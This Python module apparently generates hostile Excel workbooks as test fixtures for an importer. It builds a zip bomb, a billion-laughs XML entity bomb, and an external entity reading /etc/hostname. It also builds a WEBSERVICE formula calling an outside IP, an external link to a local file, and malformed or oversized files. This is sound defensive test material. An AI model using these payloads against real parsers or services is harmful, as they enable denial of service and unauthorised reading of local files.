"""Spreadsheets that are bombs, traps or none. A workbook is written part by part, so that each part can lie."""

from __future__ import annotations

import zipfile
from collections.abc import Callable, Iterable, Iterator
from pathlib import Path
from typing import Final

from openpyxl.utils import get_column_letter

from samples.make.deliveries.compound import compound
from samples.make.deliveries.hostile.images import truncated

_MAIN: Final = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_RELATIONS: Final = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE: Final = "http://schemas.openxmlformats.org/package/2006"
_PARTS: Final = {
    "[Content_Types].xml": (
        f'<Types xmlns="{_PACKAGE}/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Override PartName="/xl/workbook.xml" ContentType='
        '"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
        '<Override PartName="/xl/worksheets/sheet1.xml" ContentType='
        '"application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>'
    ),
    "_rels/.rels": (
        f'<Relationships xmlns="{_PACKAGE}/relationships">'
        f'<Relationship Id="rId1" Type="{_RELATIONS}/officeDocument" Target="xl/workbook.xml"/></Relationships>'
    ),
    "xl/workbook.xml": (
        f'<workbook xmlns="{_MAIN}" xmlns:r="{_RELATIONS}">'
        '<sheets><sheet name="目錄" sheetId="1" r:id="rId1"/></sheets></workbook>'
    ),
    "xl/_rels/workbook.xml.rels": (
        f'<Relationships xmlns="{_PACKAGE}/relationships">'
        f'<Relationship Id="rId1" Type="{_RELATIONS}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
    ),
}
HEADER: Final = ("檔號", "題名", "日期")
_BILLION: Final = (
    "<!DOCTYPE x [<!ENTITY a0 'ha'>"
    + "".join(f"<!ENTITY a{level} '{f'&a{level - 1};' * 10}'>" for level in range(1, 10))
    + "]>"
)


def write_book(path: Path, rows: Iterable[str], *, doctype: str = "", more: dict[str, str] | None = None) -> None:
    """A workbook of one sheet of these ``<row>`` elements, written as a stream; ``more``: other parts of it."""
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as book:
        for name, content in {**_PARTS, **(more or {})}.items():
            book.writestr(name, content)
        with book.open("xl/worksheets/sheet1.xml", "w", force_zip64=True) as sheet:
            sheet.write(f'{doctype}<worksheet xmlns="{_MAIN}"><sheetData>'.encode())
            for row in rows:
                sheet.write(row.encode())
            sheet.write(b"</sheetData></worksheet>")


def row(number: int, cells: Iterable[str]) -> str:
    """A row of text cells, kept in the row itself."""
    inner = "".join(
        f'<c r="{get_column_letter(at)}{number}" t="inlineStr"><is><t>{cell}</t></is></c>'
        for at, cell in enumerate(cells, start=1)
    )
    return f'<row r="{number}">{inner}</row>'


def many_rows(path: Path, rows: int = 1_000_000) -> None:
    """A catalogue of so many sound rows; a million take about ten seconds."""
    write_book(path, _many(rows))


def _many(rows: int) -> Iterator[str]:
    yield row(1, HEADER)
    for number in range(2, rows + 2):
        yield row(
            number, (f"L099-01-{number // 20:05d}-{number % 20 + 1:04d}", f"關於添購路燈第{number}號", "1926-03-02")
        )


def zip_bomb(path: Path) -> None:
    """A sheet of half a gigabyte of spaces in half a megabyte of file."""
    spaces = " " * 1_000_000
    write_book(path, (spaces for _ in range(500)))


def wide_nothing(path: Path) -> None:
    """Two sound rows, and a cell in the last place that a sheet can have: 1,048,576 × 16,384."""
    last = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t> </t></is></c></row>'
    write_book(path, [row(1, HEADER), row(2, ("L099-01-0001-0001", "關於路燈", "1926")), last])


def xml_bomb(path: Path) -> None:
    """Entities that grow to a thousand million laughs."""
    write_book(path, [row(1, HEADER), row(2, ("L099-01-0001-0001", "&a9;", "1926"))], doctype=_BILLION)


def external_entity(path: Path) -> None:
    """An entity that would read a file of this machine."""
    doctype = '<!DOCTYPE x [<!ENTITY own SYSTEM "file:///etc/hostname">]>'
    write_book(path, [row(1, HEADER), row(2, ("L099-01-0001-0001", "&own;", "1926"))], doctype=doctype)


def formulas(path: Path) -> None:
    """Formulas that call out of the sheet; the value that was kept with the first is a title, with the second none."""
    cells = (
        '<c r="A2" t="inlineStr"><is><t>L099-01-0001-0001</t></is></c>'
        '<c r="B2" t="str"><f>CONCATENATE(&quot;關於&quot;,\'[1]目錄\'!A1)</f><v>關於路燈</v></c>'
        '<c r="C2"><f>WEBSERVICE(&quot;http://198.51.100.7/&quot;)</f></c>'
    )
    link = f'<externalLink xmlns="{_MAIN}" xmlns:r="{_RELATIONS}"><externalBook r:id="rId1"/></externalLink>'
    target = (
        f'<Relationships xmlns="{_PACKAGE}/relationships"><Relationship Id="rId1" TargetMode="External"'
        f' Type="{_RELATIONS}/externalLinkPath" Target="file:///etc/hostname"/></Relationships>'
    )
    parts = {"xl/externalLinks/externalLink1.xml": link, "xl/externalLinks/_rels/externalLink1.xml.rels": target}
    write_book(path, [row(1, HEADER), f'<row r="2">{cells}</row>'], more=parts)


def locked(path: Path) -> None:
    """What a workbook with a password looks like from outside: a compound file with a locked package in it."""
    path.write_bytes(compound({"EncryptionInfo": bytes(64), "EncryptedPackage": bytes(range(256)) * 20}))


def cut_short(path: Path) -> None:
    """A workbook of which the end, and with it the list of its parts, is missing."""
    many_rows(path, 50)
    path.write_bytes(truncated(path.read_bytes()))


def endless_cell(path: Path) -> None:
    """A title of five million characters."""
    write_book(path, [row(1, HEADER), row(2, ("L099-01-0001-0001", "長" * 5_000_000, "1926"))])


def plain_text(path: Path) -> None:
    """No workbook at all, whatever its name says."""
    path.write_bytes("這不是表格".encode())


SHEETS: Final[dict[str, Callable[[Path], None]]] = {
    "bomb.xlsx": zip_bomb,
    "wide.xlsx": wide_nothing,
    "laughs.xlsx": xml_bomb,
    "entity.xlsx": external_entity,
    "formulas.xlsx": formulas,
    "locked.xlsx": locked,
    "truncated.xlsx": cut_short,
    "endless.xlsx": endless_cell,
    "text-in-truth.xlsx": plain_text,
}
"""Hostile sheets by the name that they should be given; `many_rows` stands apart, for it takes its time."""
